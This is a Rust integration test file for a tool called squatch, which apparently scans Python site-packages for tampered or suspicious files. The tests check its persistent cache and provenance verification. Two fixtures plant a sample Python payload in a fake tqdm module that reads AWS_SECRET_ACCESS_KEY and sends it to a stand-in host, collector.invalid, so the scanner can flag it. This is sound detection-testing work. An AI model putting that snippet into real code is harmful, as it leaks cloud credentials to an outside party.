//! The persistent cache across processes: a second `squatch query` is served
//! from `<state_dir>/cache/`, a file tampered with its mtime put back is
//! rescanned and re-verified, a corrupt or foreign cache is thrown away,
//! `--no-cache` writes nothing, and nothing is ever written inside --root.

mod common;

use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use common::FakeHost;

const FINDINGS: &str = "SELECT path, rule_id FROM python_install_findings WHERE rule_id != ''";
const PROVENANCE: &str =
    "SELECT name, record_status, files_modified FROM python_package_provenance";

struct Run {
    stdout: String,
    stderr: String,
}

fn squatch(root: &Path, state: &Path, extra: &[&str], sql: &str) -> Run {
    let out = common::squatch_command()
        .arg("--root")
        .arg(root)
        .arg("--state-dir")
        .arg(state)
        .args(extra)
        .args(["--verbose", "query", "--json", sql])
        .env("RUST_LOG", "squatch=debug")
        .output()
        .expect("run squatch");
    let run = Run {
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
    };
    assert!(out.status.success(), "squatch failed: {}", run.stderr);
    run
}

/// (loaded, hits, misses) from the debug line the cache logs at the end.
fn stats(run: &Run) -> (u64, u64, u64) {
    let n = all_stats(run);
    (n[0], n[1], n[2])
}

/// Site directories whose whole scan was reused (the line's fourth figure).
fn sites_reused(run: &Run) -> u64 {
    all_stats(run)[3]
}

/// Site directories whose whole RECORD verification was reused (fifth).
fn verifications_reused(run: &Run) -> u64 {
    all_stats(run)[4]
}

/// Site directories whose distributions were reused whole (sixth).
fn dists_reused(run: &Run) -> u64 {
    all_stats(run)[5]
}

fn all_stats(run: &Run) -> Vec<u64> {
    let line = run
        .stderr
        .lines()
        .rev()
        .find(|l| l.contains("persistent cache: ") && l.contains(" hits"))
        .unwrap_or_else(|| panic!("no cache stats line in: {}", run.stderr));
    let nums: Vec<u64> = line
        .split("persistent cache: ")
        .nth(1)
        .unwrap()
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .map(|s| s.parse().unwrap())
        .collect();
    nums
}

fn rows(run: &Run) -> Vec<BTreeMap<String, String>> {
    serde_json::from_str(&run.stdout).unwrap_or_else(|e| panic!("{e}: {}", run.stdout))
}

/// Every path below `dir` with its (size, mtime, ctime): a snapshot that
/// changes if anything is written there.
fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u64, i64, i64, i64)> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            let md = std::fs::symlink_metadata(e.path()).unwrap();
            out.insert(
                e.path(),
                (md.size(), md.mtime_nsec(), md.ctime(), md.ctime_nsec()),
            );
            if md.is_dir() {
                stack.push(e.path());
            }
        }
    }
    out
}

fn cache_files(state: &Path) -> Vec<PathBuf> {
    match std::fs::read_dir(state.join("cache")) {
        Ok(rd) => rd.map(|e| e.unwrap().path()).collect(),
        Err(_) => Vec::new(),
    }
}

struct Fixture {
    fh: FakeHost,
    std_py: PathBuf,
    dirty: Vec<u8>,
}

fn fixture() -> Fixture {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/app/venv", "3.12", false);
    let dirty = b"import os, urllib.request\nclass tqdm:\n    pass\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/t?k=\" + str(_k))\n".to_vec();
    let mut clean = b"class tqdm:\n    pass\n#".to_vec();
    clean.resize(dirty.len() - 1, b'x');
    clean.push(b'\n');
    let d = fh
        .dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", "from .std import tqdm\n")
        .file("tqdm/std.py", &clean)
        .write();
    for i in 0..5 {
        fh.dist(&site, &format!("pkg{i}"), "1.0")
            .file(&format!("pkg{i}/__init__.py"), format!("X = {i}\n"))
            .file(&format!("pkg{i}/core.py"), "def f():\n    return 1\n")
            .write();
    }
    let std_py = d.file("tqdm/std.py");
    Fixture { fh, std_py, dirty }
}

fn tamper_keeping_mtime(real: &Path, bytes: &[u8]) {
    use std::io::Write;
    let before = std::fs::metadata(real).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(30));
    let mut f = std::fs::OpenOptions::new().write(true).open(real).unwrap();
    f.write_all(bytes).unwrap();
    f.set_modified(before.modified().unwrap()).unwrap();
    drop(f);
    let after = std::fs::metadata(real).unwrap();
    assert_eq!(
        (
            before.ino(),
            before.size(),
            before.mtime(),
            before.mtime_nsec()
        ),
        (after.ino(), after.size(), after.mtime(), after.mtime_nsec())
    );
}

#[test]
fn second_process_hits_and_a_restored_mtime_tamper_is_rescanned() {
    let fx = fixture();
    let state = tempfile::tempdir().unwrap();
    let root = fx.fh.root().to_path_buf();
    let before = snapshot(&root);

    let first = squatch(&root, state.path(), &[], FINDINGS);
    assert!(rows(&first).is_empty(), "{}", first.stdout);
    let (loaded, hits, misses) = stats(&first);
    assert_eq!((loaded, hits), (0, 0));
    assert!(misses >= 12, "every module scanned: {misses}");
    assert_eq!(cache_files(state.path()).len(), 1);
    let mode = std::fs::metadata(&cache_files(state.path())[0])
        .unwrap()
        .mode();
    assert_eq!(mode & 0o777, 0o600);

    let second = squatch(&root, state.path(), &[], FINDINGS);
    assert_eq!(second.stdout, first.stdout);
    let (loaded, hits, misses) = stats(&second);
    assert!(loaded >= 1, "{loaded}");
    assert_eq!(misses, 0, "nothing rescanned: {}", second.stderr);
    // Each file from the cache, or (when the fixture was already a second
    // old at the first run) the whole site.
    assert!(
        hits >= 12 || sites_reused(&second) == 1,
        "{}",
        second.stderr
    );

    // Provenance: digests are kept too.
    let p1 = squatch(&root, state.path(), &[], PROVENANCE);
    assert!(
        rows(&p1).iter().all(|r| r["record_status"] == "ok"),
        "{}",
        p1.stdout
    );
    let p2 = squatch(&root, state.path(), &[], PROVENANCE);
    let (_, hits, misses) = stats(&p2);
    // Each digest from the cache, or (fixture a second old) the whole site.
    assert!(
        (hits >= 12 || verifications_reused(&p2) == 1) && misses == 0,
        "{}",
        p2.stderr
    );
    assert!(snapshot(&root) == before, "nothing written inside --root");

    tamper_keeping_mtime(&fx.fh.real(&fx.std_py), &fx.dirty);
    let before = snapshot(&root);

    let third = squatch(&root, state.path(), &[], FINDINGS);
    let found = rows(&third);
    assert!(
        found.iter().any(|r| r["path"].ends_with("tqdm/std.py")),
        "tampered file not rescanned: {}",
        third.stdout
    );
    assert_eq!(stats(&third).2, 1, "exactly the tampered file missed");
    let p3 = squatch(&root, state.path(), &[], PROVENANCE);
    let tqdm = rows(&p3).into_iter().find(|r| r["name"] == "tqdm").unwrap();
    assert_eq!(tqdm["record_status"], "modified", "{}", p3.stdout);

    assert!(snapshot(&root) == before, "nothing written inside --root");
}

#[test]
fn corrupt_and_foreign_caches_are_discarded() {
    let fx = fixture();
    let state = tempfile::tempdir().unwrap();
    let root = fx.fh.root();
    let first = squatch(root, state.path(), &[], FINDINGS);
    // The per-file scans (the site memos, `.sites.json`, are removed before
    // each run below so that the scans are consulted; the distribution
    // memos, `.dists.json`, too, so that nothing else is loaded).
    let file = cache_files(state.path())
        .into_iter()
        .find(|f| {
            f.file_name()
                .unwrap()
                .to_string_lossy()
                .matches('.')
                .count()
                == 1
        })
        .unwrap();
    assert!(!file.to_string_lossy().ends_with(".sites.json"));
    let good = std::fs::read_to_string(&file).unwrap();
    let drop_memos = || {
        for f in cache_files(state.path()) {
            let name = f.to_string_lossy();
            if name.ends_with(".sites.json") || name.ends_with(".dists.json") {
                std::fs::remove_file(f).unwrap();
            }
        }
    };
    for bad in [
        "{\"format\":1,".to_string(),
        good.replacen(env!("CARGO_PKG_VERSION"), "0.0.0-older", 1),
        good.replace("tqdm/std.py\"", "tqdm/std.py\"]]]"),
    ] {
        std::fs::write(&file, bad).unwrap();
        drop_memos();
        let run = squatch(root, state.path(), &[], FINDINGS);
        assert_eq!(run.stdout, first.stdout);
        assert_eq!(stats(&run).0, 0, "nothing loaded from a bad cache");
        assert!(run.stderr.contains("starting empty"), "{}", run.stderr);
        // And it was rewritten whole: the next run hits.
        drop_memos();
        let again = squatch(root, state.path(), &[], FINDINGS);
        assert_eq!(stats(&again).2, 0, "{}", again.stderr);
    }
}

#[test]
fn no_cache_and_unusable_state_dirs_write_nothing() {
    let fx = fixture();
    let state = tempfile::tempdir().unwrap();
    let root = fx.fh.root().to_path_buf();
    let run = squatch(&root, state.path(), &["--no-cache"], FINDINGS);
    assert!(!run.stderr.contains("persistent cache"), "{}", run.stderr);
    assert!(cache_files(state.path()).is_empty());

    // A state dir inside an examined root: no cache, the root untouched.
    let before = snapshot(&root);
    let inside = root.join("var/lib/squatch");
    let run = squatch(&root, &inside, &[], FINDINGS);
    assert!(
        run.stderr.contains("persistent cache off"),
        "{}",
        run.stderr
    );
    assert_eq!(snapshot(&root), before);

    // An unwritable state dir: the query still answers.
    let run = squatch(&root, Path::new("/proc/self/squatch-none"), &[], FINDINGS);
    assert!(run.stderr.contains("not written"), "{}", run.stderr);
}

/// Overwrites `real` with `from` replaced by `to` (same length), its mtime
/// put back.
fn rewrite_keeping_mtime(real: &Path, from: &str, to: &str) {
    assert_eq!(from.len(), to.len());
    let text = std::fs::read_to_string(real).unwrap();
    assert!(text.contains(from), "{text}");
    tamper_keeping_mtime(real, text.replacen(from, to, 1).as_bytes());
}

#[test]
fn a_site_scan_is_reused_whole_until_metadata_or_record_changes_even_with_mtime_restored() {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/app/venv", "3.12", false);
    let dirty = "import os, urllib.request\n_k = os.environ.get(\"AWS_SECRET_ACCESS_KEY\")\nurllib.request.urlopen(\"https://collector.invalid/t?k=\" + str(_k))\n";
    let tqdm = fh
        .dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", "from .std import tqdm\n")
        .file("tqdm/std.py", dirty)
        .write();
    let pkg0 = fh
        .dist(&site, "pkg0", "1.0")
        .file("pkg0/__init__.py", "X = 0\n")
        .file("pkg0/core.py", "def f():\n    return 1\n")
        .write();
    let root = fh.root().to_path_buf();
    let state = tempfile::tempdir().unwrap();
    let q = "SELECT path, rule_id, package FROM python_install_findings WHERE rule_id != ''";
    // A site's scan is kept only when nothing it read changed in the second
    // before the scan started (it could have changed while it was read).
    let settle = || std::thread::sleep(std::time::Duration::from_millis(1100));
    settle();

    let first = squatch(&root, state.path(), &[], q);
    let found = rows(&first);
    assert!(
        found
            .iter()
            .any(|r| r["path"].ends_with("tqdm/std.py") && r["package"] == "tqdm"),
        "{}",
        first.stdout
    );
    assert_eq!(sites_reused(&first), 0);
    assert!(cache_files(state.path())
        .iter()
        .any(|f| f.to_string_lossy().ends_with(".sites.json")));

    let second = squatch(&root, state.path(), &[], q);
    assert_eq!(second.stdout, first.stdout);
    assert_eq!(sites_reused(&second), 1, "{}", second.stderr);
    assert_eq!(stats(&second).2, 0, "nothing scanned: {}", second.stderr);

    // METADATA rewritten in place (another project name), mtime put back:
    // read again, not served from the memo.
    rewrite_keeping_mtime(&fh.real(&tqdm.meta("METADATA")), "Name: tqdm", "Name: tqdx");
    let third = squatch(&root, state.path(), &[], q);
    assert_eq!(sites_reused(&third), 0, "{}", third.stderr);
    let found = rows(&third);
    assert!(
        found
            .iter()
            .any(|r| r["path"].ends_with("tqdm/std.py") && r["package"] == "tqdx"),
        "METADATA not re-read: {}",
        third.stdout
    );

    settle();
    let fourth = squatch(&root, state.path(), &[], q);
    assert_eq!(fourth.stdout, third.stdout);
    let fifth = squatch(&root, state.path(), &[], q);
    assert_eq!(sites_reused(&fifth), 1, "{}", fifth.stderr);

    // pkg0's METADATA rewritten in place: no row names pkg0 and no rule
    // asked its name, so the scan never opened it, and the memo does not
    // rest on it (one `fstatat` fewer per distribution on a restart).
    rewrite_keeping_mtime(
        &fh.real(&pkg0.meta("METADATA")),
        "Version: 1.0",
        "Version: 1.1",
    );
    let unread = squatch(&root, state.path(), &[], q);
    assert_eq!(sites_reused(&unread), 1, "{}", unread.stderr);
    assert_eq!(unread.stdout, fifth.stdout);
    let none = squatch(&root, state.path(), &["--no-cache"], q);
    assert_eq!(none.stdout, unread.stdout);

    // RECORD rewritten in place (core.py no longer listed), mtime put back:
    // re-read, and core.py is now a file no RECORD lists.
    rewrite_keeping_mtime(
        &fh.real(&pkg0.meta("RECORD")),
        "pkg0/core.py",
        "pkg0/corx.py",
    );
    let sixth = squatch(&root, state.path(), &[], q);
    assert_eq!(sites_reused(&sixth), 0, "{}", sixth.stderr);
    assert!(
        rows(&sixth)
            .iter()
            .any(|r| r["path"].ends_with("pkg0/core.py") && r["rule_id"] == "unrecorded-file"),
        "RECORD not re-read: {}",
        sixth.stdout
    );
    // A file added to a package directory is seen too.
    settle();
    squatch(&root, state.path(), &[], q);
    fh.write(site.join("pkg0/dropped.py"), "x = 1\n");
    let seventh = squatch(&root, state.path(), &[], q);
    assert!(
        rows(&seventh)
            .iter()
            .any(|r| r["path"].ends_with("pkg0/dropped.py") && r["rule_id"] == "unrecorded-file"),
        "{}",
        seventh.stdout
    );
    // --no-cache gives the same rows.
    let none = squatch(&root, state.path(), &["--no-cache"], q);
    assert_eq!(none.stdout, seventh.stdout);
}

#[test]
fn a_site_verification_is_reused_whole_until_a_listed_file_or_a_walked_directory_changes() {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/app/venv", "3.12", false);
    let clean = "class tqdm:\n    pass\n";
    let tqdm = fh
        .dist(&site, "tqdm", "4.66.0")
        .file("tqdm/__init__.py", "from .std import tqdm\n")
        .file("tqdm/std.py", clean)
        .write();
    fh.dist(&site, "pkg0", "1.0")
        .file("pkg0/__init__.py", "X = 0\n")
        .write();
    // An egg-info with its file list and a distribution without any: both
    // kept in the memo too.
    fh.dist(&site, "eggy", "0.1")
        .egg_info()
        .file("eggy/__init__.py", "Y = 1\n")
        .write();
    fh.dist(&site, "bare", "2.0")
        .no_record()
        .file("bare/__init__.py", "Z = 2\n")
        .write();
    let root = fh.root().to_path_buf();
    let state = tempfile::tempdir().unwrap();
    let q = "SELECT name, record_status, files_modified, files_unrecorded, changed_files FROM python_package_provenance";
    let tqdm_row = |run: &Run| {
        rows(run)
            .into_iter()
            .find(|r| r["name"] == "tqdm")
            .unwrap_or_else(|| panic!("{}", run.stdout))
    };
    // Kept only when nothing it rests on changed in the second before.
    let settle = || std::thread::sleep(std::time::Duration::from_millis(1100));
    settle();

    let first = squatch(&root, state.path(), &[], q);
    let status = |run: &Run, name: &str| {
        rows(run)
            .into_iter()
            .find(|r| r["name"] == name)
            .map(|r| r["record_status"].clone())
    };
    assert_eq!(
        status(&first, "tqdm").as_deref(),
        Some("ok"),
        "{}",
        first.stdout
    );
    assert_eq!(status(&first, "pkg0").as_deref(), Some("ok"));
    assert_eq!(status(&first, "bare").as_deref(), Some("unverified"));
    assert!(status(&first, "eggy").is_some(), "{}", first.stdout);
    assert_eq!(verifications_reused(&first), 0);
    assert!(cache_files(state.path())
        .iter()
        .any(|f| f.to_string_lossy().ends_with(".verified.json")));
    let second = squatch(&root, state.path(), &[], q);
    assert_eq!(second.stdout, first.stdout);
    assert_eq!(verifications_reused(&second), 1, "{}", second.stderr);
    assert_eq!(stats(&second).2, 0, "nothing hashed: {}", second.stderr);

    // A listed file rewritten in place, size and mtime put back: its ctime
    // changed, so the memo is not served and the file is hashed again.
    let std_py = fh.real(&tqdm.file("tqdm/std.py"));
    tamper_keeping_mtime(&std_py, "class tqdx:\n    pass\n".as_bytes());
    let third = squatch(&root, state.path(), &[], q);
    assert_eq!(verifications_reused(&third), 0, "{}", third.stderr);
    let row = tqdm_row(&third);
    assert_eq!(row["record_status"], "modified", "{}", third.stdout);
    assert_eq!(row["files_modified"], "1");

    // The new verdict is kept and served in its turn.
    settle();
    let fourth = squatch(&root, state.path(), &[], q);
    assert_eq!(fourth.stdout, third.stdout);
    let fifth = squatch(&root, state.path(), &[], q);
    assert_eq!(verifications_reused(&fifth), 1, "{}", fifth.stderr);
    assert_eq!(fifth.stdout, third.stdout);

    // A file no RECORD lists dropped into the package directory.
    fh.write(site.join("tqdm/dropped.py"), "x = 1\n");
    let sixth = squatch(&root, state.path(), &[], q);
    assert_eq!(verifications_reused(&sixth), 0, "{}", sixth.stderr);
    let row = tqdm_row(&sixth);
    assert_eq!(row["files_unrecorded"], "1", "{}", sixth.stdout);
    assert!(
        row["changed_files"].contains("dropped.py"),
        "{}",
        sixth.stdout
    );

    // --no-cache gives the same rows.
    let none = squatch(&root, state.path(), &["--no-cache"], q);
    assert_eq!(none.stdout, sixth.stdout);
}

/// The provenance columns that need INSTALLER, REQUESTED and
/// direct_url.json, but no RECORD verification.
const PROVENANCE_META: &str = "SELECT name, version, installer, requested, source_kind, direct_url, error FROM python_package_provenance";

fn row_of(run: &Run, name: &str) -> Option<BTreeMap<String, String>> {
    rows(run).into_iter().find(|r| r["name"] == name)
}

/// A site whose distributions a first process read (and kept: every file a
/// second old), served whole to a second one.
fn dist_memo_fixture() -> (FakeHost, PathBuf, PathBuf, tempfile::TempDir, Run) {
    let fh = FakeHost::new();
    let site = fh.venv("/opt/app/venv", "3.12", false);
    let tqdm = fh
        .dist(&site, "tqdm", "4.66.0")
        .installer("pip")
        .file("tqdm/__init__.py", "X = 1\n")
        .write();
    fh.dist(&site, "pkg0", "1.0")
        .installer("uv")
        .requested()
        .direct_url(r#"{"url": "https://example.invalid/pkg0.tar.gz", "archive_info": {}}"#)
        .file("pkg0/__init__.py", "X = 0\n")
        .write();
    fh.dist(&site, "eggy", "0.1")
        .egg_info()
        .file("eggy/__init__.py", "Y = 1\n")
        .write();
    let state = tempfile::tempdir().unwrap();
    let root = fh.root().to_path_buf();
    // A memo is kept only when nothing it rests on changed in the second
    // before the read started.
    settle();
    let first = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&first), 0, "{}", first.stderr);
    assert!(cache_files(state.path())
        .iter()
        .any(|f| f.to_string_lossy().ends_with(".dists.json")));
    let second = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(second.stdout, first.stdout);
    assert_eq!(dists_reused(&second), 1, "{}", second.stderr);
    let meta = fh.real(&tqdm.meta("METADATA"));
    (fh, site, meta, state, second)
}

fn settle() {
    std::thread::sleep(std::time::Duration::from_millis(1100));
}

#[test]
fn a_site_distribution_list_is_reused_until_metadata_is_rewritten_even_with_mtime_restored() {
    let (fh, _site, metadata, state, second) = dist_memo_fixture();
    let root = fh.root().to_path_buf();
    let pkg0 = row_of(&second, "pkg0").unwrap();
    assert_eq!(
        (pkg0["installer"].as_str(), pkg0["requested"].as_str()),
        ("uv", "1")
    );
    assert_eq!(pkg0["source_kind"], "archive", "{}", second.stdout);
    assert_eq!(row_of(&second, "eggy").unwrap()["version"], "0.1");
    assert_eq!(row_of(&second, "tqdm").unwrap()["version"], "4.66.0");

    // METADATA rewritten in place (same size), its mtime put back: the
    // next process reads it again.
    rewrite_keeping_mtime(&metadata, "Version: 4.66.0", "Version: 4.66.9");
    let third = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&third), 0, "{}", third.stderr);
    assert_eq!(
        row_of(&third, "tqdm").unwrap()["version"],
        "4.66.9",
        "METADATA not re-read: {}",
        third.stdout
    );
    // The same rows as without any cache, and as the memo kept next.
    let none = squatch(&root, state.path(), &["--no-cache"], PROVENANCE_META);
    assert_eq!(none.stdout, third.stdout);
    settle();
    squatch(&root, state.path(), &[], PROVENANCE_META);
    let fifth = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&fifth), 1, "{}", fifth.stderr);
    assert_eq!(fifth.stdout, third.stdout);
}

#[test]
fn a_requested_file_created_or_removed_after_the_memo_changes_requested() {
    let (fh, site, metadata, state, second) = dist_memo_fixture();
    let root = fh.root().to_path_buf();
    assert_eq!(row_of(&second, "tqdm").unwrap()["requested"], "0");
    // REQUESTED appears in tqdm's dist-info (nothing else there changes).
    let requested = metadata.with_file_name("REQUESTED");
    std::fs::write(&requested, b"").unwrap();
    let third = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&third), 0, "{}", third.stderr);
    assert_eq!(
        row_of(&third, "tqdm").unwrap()["requested"],
        "1",
        "{}",
        third.stdout
    );
    // Kept again, then pkg0's REQUESTED removed.
    settle();
    squatch(&root, state.path(), &[], PROVENANCE_META);
    let fifth = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&fifth), 1, "{}", fifth.stderr);
    let pkg0_meta = std::fs::read_dir(fh.real(&site))
        .unwrap()
        .map(|e| e.unwrap().path())
        .find(|p| p.to_string_lossy().ends_with("pkg0-1.0.dist-info"))
        .unwrap();
    std::fs::remove_file(pkg0_meta.join("REQUESTED")).unwrap();
    let sixth = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&sixth), 0, "{}", sixth.stderr);
    assert_eq!(row_of(&sixth, "pkg0").unwrap()["requested"], "0");
    assert_eq!(row_of(&sixth, "tqdm").unwrap()["requested"], "1");
    let none = squatch(&root, state.path(), &["--no-cache"], PROVENANCE_META);
    assert_eq!(none.stdout, sixth.stdout);
}

#[test]
fn a_distribution_added_to_or_removed_from_a_site_shows_up_or_disappears() {
    let (fh, site, _metadata, state, second) = dist_memo_fixture();
    let root = fh.root().to_path_buf();
    assert!(row_of(&second, "newdist").is_none());
    let new = fh
        .dist(&site, "newdist", "2.0")
        .installer("pip")
        .file("newdist/__init__.py", "Z = 1\n")
        .write();
    let third = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&third), 0, "{}", third.stderr);
    assert_eq!(
        row_of(&third, "newdist").map(|r| r["version"].clone()),
        Some("2.0".to_string()),
        "{}",
        third.stdout
    );
    settle();
    squatch(&root, state.path(), &[], PROVENANCE_META);
    let fifth = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&fifth), 1, "{}", fifth.stderr);
    assert!(row_of(&fifth, "newdist").is_some());
    std::fs::remove_dir_all(fh.real(&new.metadata_path)).unwrap();
    let sixth = squatch(&root, state.path(), &[], PROVENANCE_META);
    assert_eq!(dists_reused(&sixth), 0, "{}", sixth.stderr);
    assert!(row_of(&sixth, "newdist").is_none(), "{}", sixth.stdout);
    assert_eq!(sixth.stdout, second.stdout);
}

#[test]
fn a_corrupt_or_foreign_distribution_memo_is_thrown_away() {
    let (fh, _site, _metadata, state, second) = dist_memo_fixture();
    let root = fh.root().to_path_buf();
    let file = cache_files(state.path())
        .into_iter()
        .find(|f| f.to_string_lossy().ends_with(".dists.json"))
        .unwrap();
    let good = std::fs::read_to_string(&file).unwrap();
    assert!(good.contains("4.66.0"), "{good}");
    for bad in [
        good[..good.len() / 2].to_string(),
        good.replacen(env!("CARGO_PKG_VERSION"), "0.0.0-older", 1),
        // Valid JSON, but not the shape of a memo.
        good.replacen("\"entries\":[", "\"entries\":[7,", 1),
    ] {
        std::fs::write(&file, &bad).unwrap();
        let run = squatch(&root, state.path(), &[], PROVENANCE_META);
        assert_eq!(dists_reused(&run), 0, "{}", run.stderr);
        assert!(run.stderr.contains("starting empty"), "{}", run.stderr);
        assert_eq!(run.stdout, second.stdout);
        // Rewritten whole: the next process is served from it again.
        let again = squatch(&root, state.path(), &[], PROVENANCE_META);
        assert_eq!(dists_reused(&again), 1, "{}", again.stderr);
        assert_eq!(again.stdout, second.stdout);
    }
}
